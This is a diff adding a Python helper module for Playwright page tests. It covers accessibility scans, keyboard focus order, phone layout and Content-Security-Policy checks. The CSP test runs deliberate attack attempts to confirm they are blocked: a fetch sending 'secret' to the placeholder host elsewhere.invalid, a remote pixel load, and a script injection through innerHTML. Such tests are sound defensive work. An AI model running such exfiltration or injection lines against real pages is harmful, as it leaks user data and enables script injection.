@@ -1,0 +1,74 @@
+"""What the pages' tests share: waiting from outside, axe-core, and what every page promises to everybody."""
+
+from __future__ import annotations
+
+import time
+from collections.abc import Callable
+from typing import Any
+
+from axe_playwright_python.sync_playwright import Axe
+
+NARROW = [(320, 568), (390, 844), (568, 320)]  # small phone, phone, small phone on its side; CSS pixels
+TOUCH = 44  # CSS pixels that a finger needs
+
+
+def until(holds: Callable[[], bool], seconds: float = 60) -> None:
+    """Wait from here: the page's own rules forbid scripts that are made up on the way."""
+    last = time.monotonic() + seconds
+    while not holds():
+        assert time.monotonic() < last
+        time.sleep(0.02)
+
+
+def faults(page: Any) -> list[str]:
+    """What axe-core finds wrong with the page as it stands, in light and in dark."""
+    found = []
+    for scheme in ("light", "dark"):
+        page.emulate_media(color_scheme=scheme)
+        for fault in Axe().run(page).response["violations"]:
+            found += [f"{scheme}: {fault['id']} at {node['target']}: {node['html'][:120]}" for node in fault["nodes"]]
+    return found
+
+
+def tabbed(page: Any, count: int) -> list[str]:
+    """What has the focus after each press of Tab: its id, its choice, or its words."""
+    names = []
+    for _ in range(count):
+        page.keyboard.press("Tab")
+        names.append(page.evaluate(
+            "() => { const e = document.activeElement;"
+            " return e.id || e.dataset.choice || (e.dataset.key && `${e.dataset.key} ${e.dataset.side}`)"
+            " || e.textContent.trim(); }"
+        ))  # fmt: skip
+    return names
+
+
+def fits_on_phones(page: Any) -> None:
+    """No sideways scrolling, nothing for a finger too small, and the last words not behind the bar of choices."""
+    for width, height in NARROW:
+        page.set_viewport_size({"width": width, "height": height})
+        assert page.evaluate("() => document.documentElement.scrollWidth <= window.innerWidth"), width
+        for button in page.get_by_role("button").all():
+            assert button.bounding_box()["height"] >= TOUCH, button.inner_text()
+        page.evaluate("() => window.scrollTo(0, document.documentElement.scrollHeight)")
+        covered = page.evaluate(
+            "() => { const bar = document.getElementById('choices').getBoundingClientRect();"
+            " const last = document.querySelector('main').getBoundingClientRect();"
+            " return getComputedStyle(document.getElementById('choices')).position === 'fixed'"
+            " && last.bottom > bar.top; }"
+        )
+        assert not covered, (width, height)
+
+
+def refused_by_its_own_rules(page: Any) -> None:
+    """Requests and pictures of other hosts, and markup that is made of text, are stopped in the browser."""
+    for rule, attempt in {
+        "connect-src": "fetch('http://elsewhere.invalid/?words=secret').catch(() => {})",
+        "img-src": "new Image().src = 'http://elsewhere.invalid/pixel.png'",
+        "require-trusted-types-for": "try { document.body.innerHTML = '<script>1</script>' } catch {}",
+    }.items():
+        broken = page.evaluate(
+            "() => new Promise((found) => { document.addEventListener('securitypolicyviolation',"
+            f" (event) => found(event.effectiveDirective), {{once: true}}); {attempt}; }})"
+        )
+        assert broken == rule
